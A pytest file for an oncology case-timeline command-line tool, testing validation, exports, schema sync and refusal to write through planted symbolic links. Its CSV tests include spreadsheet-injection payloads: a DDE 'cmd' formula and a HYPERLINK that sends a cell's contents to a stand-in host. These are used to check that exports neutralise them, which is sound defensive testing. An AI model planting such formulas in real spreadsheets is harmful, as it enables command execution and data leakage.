"""The command line: validate, export, summary, schema."""

import csv
import io
import json
import subprocess
import sys

import pytest

from timelines.cli import json_schema, main
from timelines.tables import DOSE_CHANGE_COLUMNS, EVENT_COLUMNS, MARKER_COLUMNS, MEASUREMENT_COLUMNS

from conftest import CASES, ROOT

LORLATINIB = str(CASES / "lcnec-alk-lorlatinib.yaml")


def run(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "timelines", *args], cwd=ROOT, capture_output=True, text=True,
                          timeout=120)


@pytest.mark.slow
def test_validate_is_clean_on_the_bundled_cases():
    result = run("validate", "cases")
    assert result.returncode == 0, result.stdout
    assert result.stdout.strip().endswith("with errors") and ", 0 with errors" in result.stdout
    # The template and drafts are not cases: the count is the dashboard's
    cases = len([p for p in (ROOT / "cases").glob("*.yaml") if not p.name.startswith("_")])
    assert result.stdout.strip() == f"{cases} case files: {cases} valid, 0 with errors"


def test_validate_and_deck_name_case_files_alike(tmp_path, capsys):
    """One family of commands: a name that is neither a file nor a folder gets the same message from validate,
    summary and the deck command, and counts as a failure; a folder lists the cases the dashboard lists."""
    from components.exports import deck

    missing = str(tmp_path / "nope.yaml")
    expected = f"{missing}: no such file or folder. Hint: give case files (*.yaml) or folders of them"
    assert main(["validate", LORLATINIB, missing]) == 1
    out = capsys.readouterr().out
    assert expected in out and out.strip().endswith("2 case files: 1 valid, 1 with errors")
    assert main(["summary", missing]) == 1
    assert expected in capsys.readouterr().err
    assert deck.main([missing, "--out", str(tmp_path / "out")]) == 1
    assert expected in capsys.readouterr().err


@pytest.mark.parametrize("table, columns", [("events", EVENT_COLUMNS), ("measurements", MEASUREMENT_COLUMNS),
                                            ("markers", MARKER_COLUMNS), ("dose_changes", DOSE_CHANGE_COLUMNS)])
def test_export_csv_starts_with_the_contract_columns(table, columns, capsys):
    assert main(["export", LORLATINIB, "--table", table, "--format", "csv"]) == 0
    header = next(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert tuple(header[:len(columns)]) == columns


def test_export_json_is_a_list_of_records(capsys):
    assert main(["export", LORLATINIB, "--table", "measurements", "--format", "json"]) == 0
    rows = json.loads(capsys.readouterr().out)
    brain = [r["recist_mm"] for r in rows if r["site"].lower().startswith("brain")]
    assert brain == [12.0, 11.0, 6.0]


def test_summary_json_lists_outcomes_with_the_contract_fields(capsys):
    assert main(["summary", LORLATINIB, "--format", "json"]) == 0
    summary = json.loads(capsys.readouterr().out)
    pfs = next(o for o in summary["outcomes"] if o["name"] == "pfs")
    assert {"name", "label", "months_min", "months_max", "censored", "reported_months"} <= set(pfs)
    assert (pfs["censored"], pfs["reported_months"]) == (True, 25)
    # lorlatinib to the last follow-up, 'after lorlatinib + 25 months': at least 25 months, no upper bound
    assert (round(pfs["months_min"]), pfs["months_max"], pfs["text"]) == (25, None, "25+ months")


def test_summary_text_reads_as_a_case_summary(capsys):
    assert main(["summary", LORLATINIB]) == 0
    text = capsys.readouterr().out
    assert "Line 1: lorlatinib" in text and "paper: 25+ months (consistent)" in text


@pytest.mark.slow
def test_a_broken_file_exits_1_with_its_message_on_stderr():
    result = run("export", "tests/bad_cases/unknown-kind.yaml")
    assert result.returncode == 1
    assert result.stderr.startswith("tests/bad_cases/unknown-kind.yaml:18:11: events[1].kind: Unknown event kind")


def test_the_committed_schema_is_in_sync():
    committed = json.loads((CASES / "case.schema.json").read_text(encoding="utf-8"))
    assert committed == json_schema(), "run: python -m timelines schema > cases/case.schema.json"


def test_schema_command_writes_json_schema(capsys):
    assert main(["schema"]) == 0
    schema = json.loads(capsys.readouterr().out)
    assert schema["title"] == "Oncology case file" and "events" in schema["properties"]


# ---------------------------------------------------------------- writing into --out

def _write_case(folder, document) -> str:
    import yaml

    path = folder / f"{document['id']}.yaml"
    path.write_text(yaml.safe_dump(document, sort_keys=False, allow_unicode=True), encoding="utf-8")
    return str(path)


@pytest.fixture
def study_of_one(tmp_path):
    """A study of the lorlatinib case, exported by the command."""
    assert main(["export-cbioportal", LORLATINIB, "--out", str(tmp_path / "study")]) == 0
    return tmp_path / "study"


def test_the_importer_does_not_write_through_a_link_planted_in_out(tmp_path, study_of_one, capsys):
    """Regression: a link lcnec-alk-lorlatinib.yaml -> a file outside --out was followed and the file overwritten."""
    out, outside = tmp_path / "out", tmp_path / "outside.txt"
    out.mkdir()
    outside.write_text("not a case\n")
    (out / "lcnec-alk-lorlatinib.yaml").symlink_to(outside)
    for force in ([], ["--force"]):
        capsys.readouterr()
        assert main(["import-cbioportal", str(study_of_one), "--out", str(out), *force]) == 1
        assert outside.read_text() == "not a case\n"
        assert capsys.readouterr().err == (
            f"{out}/lcnec-alk-lorlatinib.yaml: This is a symbolic link; nothing is written through a link. "
            "Hint: Delete the link, or choose another --out folder.\n"
            f"0 case files written to {out}; 1 problem, 1 patient left out\n")


@pytest.mark.slow
def test_the_importer_keeps_a_case_it_did_not_write_unless_forced(tmp_path, study_of_one, capsys):
    out = tmp_path / "out"
    out.mkdir()
    mine = out / "lcnec-alk-lorlatinib.yaml"
    mine.write_text("# written by hand\n")
    assert main(["import-cbioportal", str(study_of_one), "--out", str(out)]) == 1
    assert mine.read_text() == "# written by hand\n"
    assert capsys.readouterr().err == (
        f"{mine}: This file was not written by python -m timelines, so it is left as it is. Hint: Move it away, "
        "choose another --out folder, or add --force to replace it.\n"
        f"0 case files written to {out}; 1 problem, 1 patient left out\n")
    assert main(["import-cbioportal", str(study_of_one), "--out", str(out), "--force"]) == 0
    assert "id: lcnec-alk-lorlatinib" in mine.read_text()
    # Its own file, unchanged since, is replaced by the next import; once edited, it is kept again.
    assert main(["import-cbioportal", str(study_of_one), "--out", str(out)]) == 0
    mine.write_text(mine.read_text() + "# my note\n")
    capsys.readouterr()
    assert main(["import-cbioportal", str(study_of_one), "--out", str(out)]) == 1
    assert capsys.readouterr().err.startswith(
        f"{mine}: This file was changed since python -m timelines wrote it, so it is left as it is. Hint: Move it "
        "away to keep the changes, or add --force to replace it.\n")
    assert mine.read_text().endswith("# my note\n")


def test_an_out_that_is_of_the_wrong_type_is_a_message_not_a_traceback(tmp_path, study_of_one, capsys):
    a_file = tmp_path / "a-file.txt"
    a_file.write_text("x\n")
    assert main(["import-cbioportal", str(study_of_one), "--out", str(a_file)]) == 1
    assert capsys.readouterr().err == (f"{a_file}: This is a file, not a folder; --out names the folder the files "
                                       "are written to. Hint: Give a folder name (it is created when missing).\n")
    assert main(["export-cbioportal", LORLATINIB, "--out", str(a_file)]) == 1
    assert capsys.readouterr().err.endswith(
        f"{a_file}: This is a file, not a folder; --out names the folder the files are written to. Hint: Give a "
        f"folder name (it is created when missing).\nNothing was written to {a_file}.\n")
    assert main(["export-fhir", LORLATINIB, "--out", str(tmp_path)]) == 1
    assert capsys.readouterr().err.endswith(
        f"{tmp_path}: This is a folder; for one case file --out names the bundle's file. Hint: Give a file name, "
        f"e.g. {tmp_path}/bundle.fhir.json, or a folder of cases to write one bundle per case into it.\n")
    assert a_file.read_text() == "x\n"


def test_export_fhir_and_export_cbioportal_refuse_links_and_files_they_did_not_write(tmp_path, capsys):
    outside = tmp_path / "outside.txt"
    outside.write_text("keep\n")
    bundle = tmp_path / "bundles" / "b.fhir.json"
    bundle.parent.mkdir()
    bundle.symlink_to(outside)
    assert main(["export-fhir", LORLATINIB, "--out", str(bundle), "--force"]) == 1
    assert capsys.readouterr().err.endswith(f"{bundle}: This is a symbolic link; nothing is written through a link. "
                                            "Hint: Delete the link, or choose another --out folder.\n")
    bundle.unlink()
    assert main(["export-fhir", LORLATINIB, "--out", str(bundle)]) == 0
    assert main(["export-fhir", LORLATINIB, "--out", str(bundle)]) == 0  # its own file: replaced
    assert json.loads(bundle.read_text())["resourceType"] == "Bundle"
    study = tmp_path / "study"
    study.mkdir()
    (study / "meta_study.txt").write_text("cancer_study_identifier: mine\n")
    (study / "data_timeline_status.txt").symlink_to(outside)
    capsys.readouterr()
    assert main(["export-cbioportal", LORLATINIB, "--out", str(study)]) == 1
    assert capsys.readouterr().err.endswith(
        f"{study}/meta_study.txt: This file was not written by python -m timelines, so it is left as it is. Hint: "
        "Move it away, choose another --out folder, or add --force to replace it.\n"
        f"{study}/data_timeline_status.txt: This is a symbolic link; nothing is written through a link. Hint: Delete "
        "the link, or choose another --out folder.\n"
        f"Nothing was written to {study}.\n")
    assert sorted(p.name for p in study.iterdir()) == ["data_timeline_status.txt", "meta_study.txt"]
    assert (study / "meta_study.txt").read_text() == "cancer_study_identifier: mine\n"
    assert outside.read_text() == "keep\n"


# ---------------------------------------------------------------- formulas in CSV

FORMULAS = {"label": "=HYPERLINK(\"http://x.example/?\"&A1,\"see\")", "quote": "+cmd|' /C calc'!A0",
            "note": "@SUM(1+1)", "dose": "-5 mg then 600 mg"}


def test_export_csv_writes_no_live_formula(tmp_path, capsys):
    """OWASP CSV injection: a text cell starting with = + - @ gets a leading quote; numbers are left as numbers."""
    from conftest import make_case, make_event

    path = _write_case(tmp_path, make_case(make_event(**FORMULAS)))
    assert main(["export", path, "--format", "csv"]) == 0
    row = next(r for r in csv.DictReader(io.StringIO(capsys.readouterr().out)) if r["event_id"] == "tki")
    assert [row[name] for name in ("label", "quote", "note", "dose")] == [
        "'=HYPERLINK(\"http://x.example/?\"&A1,\"see\")", "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-5 mg then 600 mg"]
    assert row["day_start"] == "22"


def test_a_negative_number_is_written_as_a_number(tmp_path, capsys):
    import pandas as pd

    from timelines.saving.spreadsheet import csv_text

    frame = pd.DataFrame({"text": ["-5", "-2.5e-3", "+1", "-5 mm", "\tx", "'=x", "'ok"], "n": [-1] * 7})
    assert csv_text(frame).split("\n")[1:] == ["-5,-1", "-2.5e-3,-1", "+1,-1", "'-5 mm,-1", "'\tx,-1", "''=x,-1",
                                               "'ok,-1", ""]
    # A lone carriage return ends a row in a spreadsheet: such a table has its text quoted.
    frame = pd.DataFrame({"text": ["\rx", "a"], "n": [1.5, -2]})
    assert csv_text(frame) == '"text","n"\n"\'\rx",1.5\n"a",-2.0\n'


def test_a_column_name_that_a_spreadsheet_would_run_is_quoted_like_a_cell():
    """OWASP CSV injection reaches the header row too: a column named '=cmd' would run in the first row."""
    import pandas as pd

    from timelines.saving.spreadsheet import csv_text

    frame = pd.DataFrame({"=HYPERLINK(\"x\")": ["a"], "-5": ["b"], "+note": [1], "@x": ["-c"], "ok": ["d"]})
    assert csv_text(frame).split("\n")[:2] == ['"\'=HYPERLINK(""x"")",-5,\'+note,\'@x,ok', "a,b,1,'-c,d"]


# ---------------------------------------------------------------- cBioPortal column names

def test_export_cbioportal_refuses_an_attribute_name_with_a_tab_and_writes_nothing(tmp_path, capsys):
    """Regression: a tab or a line break in an attribute name wrote a broken clinical header (and exited 0)."""
    from conftest import make_case, make_event

    document = make_case(make_event(attributes={"RECIST\tNOTE": "x", "OK": "y"}))
    document["patient"]["attributes"] = {"SITE\nCODE": "z"}
    path = _write_case(tmp_path, document)
    out = tmp_path / "study"
    assert main(["export-cbioportal", path, "--out", str(out)]) == 1
    assert capsys.readouterr().err == (
        f"{path}: patient.attributes: The attribute name 'SITE\\nCODE' holds a line break, which a cBioPortal column "
        "name cannot hold. Hint: rename the attribute without it\n"
        f"{path}: events[0].attributes: The attribute name 'RECIST\\tNOTE' holds a tab, which a cBioPortal column "
        "name cannot hold. Hint: rename the attribute without it\n"
        f"Nothing was written to {out}.\n")
    assert not out.exists() or list(out.iterdir()) == []


def test_export_json_writes_every_number_exact(tmp_path, capsys):
    """Regression: pandas' to_json rounded to 10 digits: 1.5e-10 came back as 2e-10, the largest double as
    infinity."""
    from conftest import make_case

    lab = {"id": "lab", "kind": "lab", "date": "2021-09-01", "values": [
        {"marker": "X", "value": 1.5e-10, "unit": "mol/L"}, {"marker": "Y", "value": 1.7976931348623157e308},
        {"marker": "Z", "value": 0.1 + 0.2}]}
    path = _write_case(tmp_path, make_case(lab))
    assert main(["export", path, "--table", "markers", "--format", "json"]) == 0
    out = capsys.readouterr().out
    assert [r["value"] for r in json.loads(out)] == [1.5e-10, 1.7976931348623157e308, 0.30000000000000004]
    assert '"value": 1.5e-10,' in out and '"value": 1.7976931348623157e+308,' in out


def test_a_link_planted_as_the_list_of_files_written_is_refused_before_anything_is_written(tmp_path, capsys):
    outside = tmp_path / "outside.json"
    outside.write_text('{"files": {}}\n')
    out = tmp_path / "study"
    out.mkdir()
    (out / ".timelines-written.json").symlink_to(outside)
    assert main(["export-cbioportal", LORLATINIB, "--out", str(out), "--force"]) == 1
    assert capsys.readouterr().err.endswith(
        f"{out}/.timelines-written.json: This is a link or a folder, so the list of the files written here is neither "
        "read nor kept. Hint: Delete .timelines-written.json; it is made again.\n"
        f"Nothing was written to {out}.\n")
    assert [p.name for p in out.iterdir()] == [".timelines-written.json"]
    assert outside.read_text() == '{"files": {}}\n'
